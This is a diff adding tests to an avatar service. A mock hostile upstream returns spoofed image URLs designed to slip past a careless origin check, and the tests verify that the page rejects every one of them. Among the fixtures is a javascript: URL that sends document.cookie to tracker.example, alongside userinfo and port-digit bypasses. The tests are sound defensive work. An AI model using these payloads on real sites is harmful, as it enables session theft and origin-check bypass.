@@ -185,3 +185,84 @@ describe('an avatar service that answers images from elsewhere', () => {
     expect(counterValue(metrics, 'upstream_requests_total', { service: 'avatars', outcome: 'invalid' })).toBeGreaterThan(0);
   });
 });
+
+/**
+ * Listens on a free port of at most four digits, up to 6553: the only ports to which a digit can
+ * be added and still make a valid URL (`http://127.0.0.1:PORT0/`), which is what a check of the
+ * origin by its text (startsWith) would take for the service's own. Port 0 gives five digits.
+ */
+async function listenOnShortPort(server: Server): Promise<number> {
+  for (let attempt = 0; ; attempt++) {
+    const port = 1024 + Math.floor(Math.random() * (6553 - 1024));
+    const error = await new Promise<NodeJS.ErrnoException | undefined>((resolve) => {
+      server.once('error', resolve);
+      server.listen(port, '127.0.0.1', () => {
+        server.off('error', resolve);
+        resolve(undefined);
+      });
+    });
+    if (!error) return port;
+    if (error.code !== 'EADDRINUSE' || attempt > 50) throw error;
+  }
+}
+
+describe('an avatar service whose answers only look like its own origin', () => {
+  let app: TestApp;
+  let thirdParty: Server;
+  let origin: string;
+  /** Each person's answer from the hostile third party: one of its own images, or a URL made to pass a careless check. */
+  let answers: Record<string, string>;
+  const asked = new Set<string>();
+  beforeAll(async () => {
+    thirdParty = createServer((req, res) => {
+      const person = /^\/avatars\/([^/?]+)/.exec(req.url!)?.[1];
+      res.writeHead(200, { 'content-type': 'application/json' });
+      if (person) asked.add(decodeURIComponent(person));
+      res.end(JSON.stringify(person ? { url: answers[decodeURIComponent(person)] } : { items: [] }));
+    });
+    const port = await listenOnShortPort(thirdParty);
+    origin = `http://127.0.0.1:${port}`;
+    answers = {
+      maya: `${origin}/img/maya.svg`,
+      // The service's origin, then a login part: the host is tracker.example.
+      theo: `${origin}@tracker.example/p.png`,
+      // The service's origin, then one more digit: another port.
+      priya: `${origin}0/p.png`,
+      // Same host and port, another scheme: another origin, and the CSP allows only this one.
+      jonas: `https://127.0.0.1:${port}/p.png`,
+      lena: `javascript:fetch('https://tracker.example/?'+document.cookie)//${origin}/`,
+      // The same server under another name: another origin too.
+      sam: `http://localhost:${port}/p.png`,
+    };
+    app = await startTestApp({ AVATAR_API_URL: `${origin}/avatars` });
+  });
+  afterAll(async () => {
+    await app.stop();
+    thirdParty.closeAllConnections();
+    await new Promise((resolve) => thirdParty.close(resolve));
+  });
+
+  /** Each avatar on a page: whose it is (the viewer's has no alt text) and its src. */
+  const avatarsOf = (html: string) => [...html.matchAll(/<img class="avatar[^"]*" src="([^"]+)" alt="([^"]*)"/g)].map((m) => ({ alt: m[2]!, src: m[1]! }));
+
+  it('shows only images from the service\'s own origin: every other answer gives the fallback, and never reaches the page', async () => {
+    for (const pathname of ['/?user=maya', '/fragments/feed?user=maya']) {
+      const { status, text } = await app.request(pathname);
+      expect(status).toBe(200);
+      const avatars = avatarsOf(text);
+      expect(avatars.length).toBe(9);
+      for (const { alt, src } of avatars) expect(src, alt).toBe(alt === '' || alt === 'Maya Okafor' ? answers.maya : '/static/img/fallback-avatar.svg');
+      for (const hostile of Object.values(answers).filter((url) => url !== answers.maya)) {
+        expect(text).not.toContain(hostile);
+        // Nor any part of it the page could have been made to load, escaped or not.
+        expect(text).not.toContain(hostile.replace(/&/g, '&amp;').replace(/'/g, '&#39;'));
+      }
+      expect(text).not.toMatch(/tracker\.example|javascript:|localhost:|https:\/\/127\.0\.0\.1/);
+      expect(text).not.toContain(`${origin}0`);
+    }
+    // Every hostile answer was given, and each was refused as an invalid answer.
+    expect([...asked].sort()).toEqual(Object.keys(answers).sort());
+    const metrics = await (await fetch(`${app.url}/metrics`)).text();
+    expect(counterValue(metrics, 'upstream_requests_total', { service: 'avatars', outcome: 'invalid' })).toBeGreaterThanOrEqual(5);
+  });
+});
